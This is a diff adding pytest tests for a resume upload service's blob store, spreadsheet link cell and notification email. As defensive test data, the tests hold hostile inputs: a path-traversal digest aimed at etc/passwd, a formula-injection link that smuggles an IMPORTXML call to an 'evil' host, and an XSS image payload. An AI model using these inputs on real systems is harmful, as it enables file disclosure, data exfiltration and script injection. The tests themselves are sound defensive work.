@@ -0,0 +1,64 @@
+import hashlib
+import os
+
+import pytest
+
+from blobs import BlobStore
+from sheets_storage import SheetsStorage
+
+
+def test_put_then_get(tmp_path):
+    store = BlobStore(str(tmp_path))
+    digest, size, stored = store.put([b"%PDF-", b"resume"], "application/pdf", "../cv.pdf")
+    assert digest == hashlib.sha256(b"%PDF-resume").hexdigest()
+    assert (size, stored) == (11, True)
+
+    path, meta = store.get(digest)
+    with open(path, "rb") as f:
+        assert f.read() == b"%PDF-resume"
+    assert meta == {"content_type": "application/pdf", "filename": "cv.pdf", "size": 11}
+
+
+def test_same_content_is_stored_once(tmp_path):
+    store = BlobStore(str(tmp_path))
+    first = store.put([b"same"], "text/plain", "a.txt")
+    second = store.put([b"same"], "text/plain", "b.txt")
+    assert second == (first[0], 4, False)
+    assert store.get(first[0])[1]["filename"] == "a.txt"
+    assert os.listdir(tmp_path / "tmp") == []
+
+
+def test_failed_upload_leaves_nothing_behind(tmp_path):
+    store = BlobStore(str(tmp_path))
+
+    def chunks():
+        yield b"partial"
+        raise OSError("client went away")
+
+    with pytest.raises(OSError):
+        store.put(chunks(), "text/plain", "a.txt")
+    assert os.listdir(tmp_path / "tmp") == []
+
+
+@pytest.mark.parametrize("digest", ["", "abc", "../" * 20 + "etc/passwd", "A" * 64, "0" * 63 + "g"])
+def test_unknown_or_invalid_digest_is_not_found(tmp_path, digest):
+    store = BlobStore(str(tmp_path))
+    assert store.get(digest) is None
+    assert store.get("0" * 64) is None
+
+
+def test_resume_link_cannot_break_out_of_the_formula():
+    link = '/resumes/x", "y") & IMPORTXML("http://evil", "//a'
+    cell = SheetsStorage._cell("jobs", "resume_link", link)
+    assert cell == '=HYPERLINK("/resumes/x"", ""y"") & IMPORTXML(""http://evil"", ""//a", "View Resume")'
+    assert SheetsStorage._uncell("jobs", "resume_link", cell) == link
+
+
+def test_resume_mail_escapes_user_input(main_module, monkeypatch):
+    sent = []
+    monkeypatch.setattr(main_module, "ADMIN_DIGEST_EVENTS", set())
+    monkeypatch.setattr(main_module, "send_email", lambda to, subject, body: sent.append(body) or "m1")
+    main_module.send_resume_email("Ann", "a@x", "python", "yes", '<img src=x onerror="alert(1)">.pdf',
+                                  "https://portal.example.com/resumes/" + "0" * 64)
+    assert "<img" not in sent[0]
+    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;.pdf" in sent[0]